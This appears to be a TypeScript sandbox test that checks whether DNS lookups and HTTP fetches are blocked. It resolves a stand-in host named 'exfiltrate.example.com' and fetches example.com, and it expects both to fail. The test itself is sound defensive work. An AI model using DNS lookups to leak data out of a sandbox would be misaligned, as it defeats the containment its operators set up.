// Attack: leak data through DNS (the classic way out of "no network" sandboxes) and fetch over
// HTTP by name, with the runtime's own resolver and HTTP client.
// Must fail: hosts resolve from /etc/hosts only (nsswitch "hosts: files dns" with no name server
// reachable: there is no route); getaddrinfo answers EAI_AGAIN at once, and fetch fails with
// the same error before a packet could leave the network namespace.
import { promises as dns } from "node:dns";
import { codeOf, report } from "./_sys.ts";

const lookup = await dns.lookup("exfiltrate.example.com").then(() => "resolved", codeOf);
const http = await fetch("http://example.com/", { signal: AbortSignal.timeout(5000) }).then(
  () => "connected",
  (e) => codeOf(e?.cause ?? e),
);
report({ lookup, http });
